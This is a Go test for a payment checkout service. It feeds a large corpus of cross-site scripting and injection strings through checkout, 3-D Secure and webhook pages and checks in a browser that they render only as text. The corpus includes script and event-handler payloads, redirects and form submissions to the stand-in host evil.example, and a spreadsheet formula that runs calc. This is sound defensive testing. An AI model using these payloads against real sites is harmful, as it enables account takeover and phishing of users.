package app

import (
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/florinpay/florin/core/audit"
	"github.com/florinpay/florin/core/merchant"
	"github.com/florinpay/florin/web/browsertest"
)

// Texts that want to be more than text. N is filled in, so that each tells
// which one got through.
var nastyTexts = strings.Split(strings.TrimSpace(`
<script>window.got=N</script>
<ScRiPt >window.got=N</sCrIpT>
"><script>window.got=N</script>
'><script>window.got=N</script>
</title><script>window.got=N</script>
</textarea><script>window.got=N</script>
</style><script>window.got=N</script>
</code></pre><script>window.got=N</script>
</script><script>window.got=N</script>
<img src=x onerror=window.got=N>
"><img src=x onerror=window.got=N>
<svg onload=window.got=N>
<svg><script>window.got=N</script></svg>
<math><mi xlink:href="javascript:window.got=N">x</mi></math>
<iframe srcdoc="<script>parent.got=N</script>"></iframe>
<iframe src="javascript:parent.got=N"></iframe>
<object data="javascript:window.got=N"></object>
<embed src="javascript:window.got=N">
<base href="https://evil.example/">
<meta http-equiv=refresh content="0; url=https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<form action="https://evil.example/"><button>Pay N
<a href="javascript:window.got=N">x</a>
<details open ontoggle=window.got=N>
<body onload=window.got=N>
<input autofocus onfocus=window.got=N>
" autofocus onfocus=window.got=N x="
' autofocus onfocus=window.got=N x='
" onmouseover=window.got=N style="position:fixed;inset:0" x="
x onerror=window.got=N
javascript:window.got=N
data:text/html,<script>window.got=N</script>
{{.Session.Key}}
{{template "layout" .}}
${window.got=N}
{{constructor.constructor('window.got=N')()}}
&lt;script&gt;window.got=N&lt;/script&gt;
&#60;script&#62;window.got=N&#60;/script&#62;
\u003cscript\u003ewindow.got=N\u003c/script\u003e
<!--><script>window.got=N</script>-->
<![CDATA[<script>window.got=N</script>]]>
<noscript><p title="</noscript><img src=x onerror=window.got=N>">
<table><td background="javascript:window.got=N">
＜script＞window.got=N＜/script＞
ﬀ<svg/onload=window.got=N//
`+"\u202e<script>window.got=N</script>\n"+`+ADw-script+AD4-window.got=N+ADw-/script+AD4-
=HYPERLINK("https://evil.example/?N")
0; url=https://evil.example/
%3Cscript%3Ewindow.got=N%3C/script%3E
<script src=data:,window.got=N></script>
<script src="//evil.example/N.js"></script>
<script type=module>window.got=N</script>
<script>/*</script><script>*/window.got=N</script>
<scr<script>ipt>window.got=N</scr</script>ipt>
<script/x>window.got=N</script>
<svg><animate onbegin=window.got=N attributeName=x dur=1s>
<svg><a xlink:href="javascript:window.got=N"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='window.got=N'/>#x"/>
<svg><foreignObject><img src=x onerror=window.got=N></foreignObject></svg>
<svg><set attributeName=onmouseover to=window.got=N>
<svg><style><img src=x onerror=window.got=N></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.got=N>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.got=N>
<video><source onerror=window.got=N>
<audio src=x onerror=window.got=N>
<picture><source srcset=x><img onerror=window.got=N src=x></picture>
<marquee onstart=window.got=N>
<keygen autofocus onfocus=window.got=N>
<select autofocus onfocus=window.got=N>
<div contenteditable autofocus onfocus=window.got=N>
<p style="animation:x 1s" onanimationstart=window.got=N>
<style>@keyframes x{}</style><p style="animation:x" onanimationend=window.got=N>
<style>@import "https://evil.example/N.css";</style>
<p style="background:url(javascript:window.got=N)">
<p style="width:expression(window.got=N)">
<button form=pay formaction="https://evil.example/N">Pay
<input type=image src=x onerror=window.got=N>
<input type=submit formaction="javascript:window.got=N">
<isindex action="javascript:window.got=N" type=submit>
<frameset onload=window.got=N>
<template><script>window.got=N</script></template>
<slot name=x onslotchange=window.got=N>
<dialog open onclose=window.got=N>
<img src="x" srcset="x" onerror="window.got=N"
<img """><script>window.got=N</script>">
<img src=`+"`x`"+` onerror=`+"`window.got=N`"+`>
<a href="jav&#x09;ascript:window.got=N">x</a>
<a href="&#106;avascript:window.got=N">x</a>
<a href=" javascript:window.got=N">x</a>
<a href="vbscript:got(N)">x</a>
<a href="//evil.example/N">x</a>
<a href=x target=_blank onclick=window.got=N>x</a>
<bdo dir=rtl><script>window.got=N</script></bdo>
<plaintext>N
<xmp><script>window.got=N</script></xmp>
<listing><img src=x onerror=window.got=N></listing>
<noembed><img src=x onerror=window.got=N></noembed>
<?xml version="1.0"?><script>window.got=N</script>
<!DOCTYPE x [<!ENTITY y "N">]>&y;
<!--#exec cmd="echo N"-->
<%= window.got=N %>
<?php echo N ?>
#{window.got=N}
[[${window.got=N}]]
{{"".sub("N")}}
{% raw %}N{% endraw %}
[N](javascript:window.got=N)
![N](x"onerror="window.got=N)
';window.got=N;//
";window.got=N;//
\';window.got=N;//
`+"`;window.got=N;//"+`
*/window.got=N/*
</script/x><script>window.got=N</script>
"}]};window.got=N;//
+alert(N)
@SUM(1+N)
-2+3+cmd|' /C calc'!AN
%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>window.got=N</script>
%253Cscript%253Ewindow.got=N%253C/script%253E
&lt;img src=x onerror=window.got=N&gt;
&#x3c;script&#x3e;window.got=N&#x3c;/script&#x3e;
\x3cscript\x3ewindow.got=N\x3c/script\x3e
‹script›window.got=N‹/script›
`), "\n")

// Ends of what a text may stand in, and what may follow: each with each.
var (
	ends = []string{`" x=">`, `' x='>`, "-->", "</option></select>", "</a></p></div>", "</noscript>", "</template></button>", "</svg>", "\u2028"}
	acts = []string{`<img src=x onerror=window.got=N>`, `<svg/onload=window.got=N>`, `<script>window.got=N</script>`, `<details open ontoggle=window.got=N>`,
		`<input autofocus onfocus=window.got=N>`, `<iframe srcdoc="<script>parent.got=N</script>">`, `<form action="https://evil.example/N"><button>Pay`,
		`<meta http-equiv=refresh content="0; url=https://evil.example/N">`, `<base href="https://evil.example/N/">`}
)

// corpus is all of them.
func corpus() []string {
	all := slices.Clone(nastyTexts)
	for _, end := range ends {
		for _, act := range acts {
			all = append(all, end+act)
		}
	}
	return all
}

// shape is the page without its texts: elements and the names of attributes.
const shape = `[...document.querySelectorAll("*")].map((e) => e.tagName + [...e.attributes].map((a) => " " + a.name).join("")).join("\n")`

// A payer's and a developer's pages show every stored text as text: their
// elements are the same whatever the texts are (reliability, C4).
func TestStoredTextsStayText(t *testing.T) {
	h := openHouse(t)
	texts := corpus()
	if len(texts) < 200 {
		t.Errorf("got %d texts, want 200", len(texts))
	}
	opened, parsed := h.walk(t, 0, "an ordinary text", h.opened), h.walk(t, 1, "an ordinary text", h.parsed)
	for n, text := range texts {
		text = strings.ReplaceAll(text, "N", fmt.Sprint(n+2))
		plain, look := parsed, h.parsed
		if n%openedOfTexts == 0 {
			plain, look = opened, h.opened
		}
		for page, elements := range h.walk(t, n+2, text, look) {
			if elements != plain[page] || elements == "" {
				t.Errorf("%q changed the elements of %s:\n%s", text, page, difference(plain[page], elements))
			}
		}
	}
	if h.elements(t, "<p>x</p>") == h.elements(t, "<p>x<img src=x></p>") || h.elements(t, `<p title="a">`) == h.elements(t, `<p title="a" onclick=x>`) {
		t.Error("this test finds nothing")
	}
}

// openedOfTexts: of so many texts one is opened in the browser, which takes
// seconds; of the others the browser parses the same pages as they are sent.
const openedOfTexts = 5

// opened is the shape of a page once it is open and its scripts have run.
func (h *house) opened(t *testing.T, path string) string {
	t.Helper()
	h.b.Open(t, path)
	if got := browsertest.Eval[string](t, h.b, `String(window.got)`); got != "undefined" {
		t.Errorf("%s: text %s ran", path, got)
	}
	if at := browsertest.Eval[string](t, h.b, `location.host`); at != strings.TrimPrefix(h.box.URL, "http://") {
		t.Errorf("%s led to %s", path, at)
	}
	return browsertest.Eval[string](t, h.b, shape)
}

// parsed is the shape that the browser's own parser makes of a page.
func (h *house) parsed(t *testing.T, path string) string {
	t.Helper()
	w := knock(h.server.Config.Handler, "GET", strings.TrimPrefix(path, h.box.URL), "")
	if w.Code != 200 {
		t.Errorf("%s: got %d", path, w.Code)
	}
	return h.elements(t, w.Body.String())
}

func (h *house) elements(t *testing.T, body string) string {
	t.Helper()
	quoted, err := json.Marshal(body)
	if err != nil {
		t.Fatal(err)
	}
	return browsertest.Eval[string](t, h.b, `((document) => `+shape+`)(new DOMParser().parseFromString(`+string(quoted)+`, "text/html"))`)
}

// house is the app behind a real server, with a browser before it.
type house struct {
	*App
	box    Sandbox
	server *httptest.Server
	b      *browsertest.Browser
}

func openHouse(t *testing.T) *house {
	t.Helper()
	h := &house{server: httptest.NewUnstartedServer(nil), b: browsertest.Start(t)}
	h.App, h.box = indoorsAt(t, "http://"+h.server.Listener.Addr().String())
	h.server.Config.Handler = h.DevHandler(h.box)
	h.server.Start()
	t.Cleanup(h.server.Close)
	h.b.Resize(t, browsertest.Windows[0])
	return h
}

// entity makes a merchant of the given name and its entity.
func (h *house) entity(t *testing.T, n int, name string, settings merchant.Settings) string {
	t.Helper()
	realm, err := h.devRealm(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	m, err := h.Merchants.Add(t.Context(), realm.ID, audit.By{Actor: "test"}, merchant.Merchant{Code: fmt.Sprintf("NASTY%d", n), Name: name, Country: "NO"})
	if err != nil {
		t.Fatal(err)
	}
	settings.ThreeDS, settings.Notifications = true, true
	p, err := h.Merchants.AddProfile(t.Context(), realm.ID, audit.By{Actor: "test"}, merchant.Profile{Merchant: m.ID, Code: fmt.Sprintf("NASTY%03d", n), Name: name, Settings: settings})
	if err != nil {
		t.Fatal(err)
	}
	return p.Code
}

// walk opens a checkout whose every text is the given one, goes through it,
// and tells the shape of each page on the way.
func (h *house) walk(t *testing.T, n int, text string, see func(t *testing.T, path string) string) map[string]string {
	t.Helper()
	code := h.entity(t, n, text, merchant.Settings{})
	form := url.Values{"entityId": {code}, "amount": {"62.00"}, "currency": {"EUR"}, "paymentType": {"DB"}, "shopperResultUrl": {"http://127.0.0.1/done?t=" + url.QueryEscape(text)},
		"merchantTransactionId": {"reference " + text}, "descriptor": {first(127, text)}, "customParameters[text]": {text}, "customParameters[SHOPPER_text]": {text},
		"customer.surname": {first(50, text)}, "billing.street1": {first(100, text)}, "cart.items[0].name": {text}, "merchantMemo": {text}, "notificationUrl": {h.box.URL + "/inbox/hook/" + url.PathEscape(text)}}
	w := knock(h.server.Config.Handler, "POST", "/gateway/v3/checkouts", form.Encode(), "Authorization: Bearer "+h.box.Gateway.Token)
	found := regexp.MustCompile(`"url":"([^"]+/page)"`).FindStringSubmatch(w.Body.String())
	if found == nil {
		t.Fatalf("%q: no checkout: %d %s", text, w.Code, w.Body)
	}
	page, shapes := found[1], map[string]string{}
	look := func(name, path string) {
		t.Helper()
		shapes[name] = see(t, path)
	}
	handler := h.server.Config.Handler
	pay := url.Values{"attempt": {"1"}, "number": {"4200000000000042"}, "expiry": {"08/34"}, "cvv": {"321"}, "holder": {"holder " + text}}
	look("checkout", page)
	look("checkout in a strange language", page+"?locale="+url.QueryEscape(text)+"&step="+url.QueryEscape(text))
	look("frame", strings.TrimSuffix(page, "page")+"frame?"+url.Values{"brands": {text}, "style": {text}, "parent": {text}, "return": {text}, "locale": {text}}.Encode())
	if w := knock(handler, "POST", strings.TrimPrefix(page, h.box.URL), pay.Encode()); w.Code != 303 {
		t.Fatalf("%q: pay: %d %s", text, w.Code, w.Body)
	}
	bank := regexp.MustCompile(`/sandbox/3ds/[^"]+`).FindString(knock(handler, "GET", strings.TrimPrefix(page, h.box.URL)+"?step=go", "").Body.String())
	look("begun", page)
	look("bank", h.box.URL+bank)
	knock(handler, "POST", bank, "choice=success")
	knock(handler, "GET", regexp.MustCompile(`/return/[0-9a-f]+`).FindString(knock(handler, "GET", bank, "").Body.String()), "")
	look("paid", page)
	knock(handler, "POST", "/inbox/hook/"+url.PathEscape(text), text, "X-Signature: "+strings.Map(visible, text), "X-Event-Id: e1")
	h.inbox.mu.Lock()
	h.inbox.list = h.inbox.list[len(h.inbox.list)-1:]
	h.inbox.mu.Unlock()
	look("inbox", h.box.URL+"/inbox")
	return shapes
}

// first cuts a text to as many letters as a field takes.
func first(n int, text string) string {
	letters := []rune(text)
	return string(letters[:min(n, len(letters))])
}

func visible(c rune) rune {
	if c < ' ' || c > '~' {
		return -1
	}
	return c
}

// difference is the first line in which two shapes differ.
func difference(a, b string) string {
	one, two := strings.Split(a, "\n"), strings.Split(b, "\n")
	for i := range min(len(one), len(two)) {
		if one[i] != two[i] {
			return fmt.Sprintf("line %d: %q, was %q", i, two[i], one[i])
		}
	}
	return fmt.Sprintf("%d elements, were %d", len(two), len(one))
}
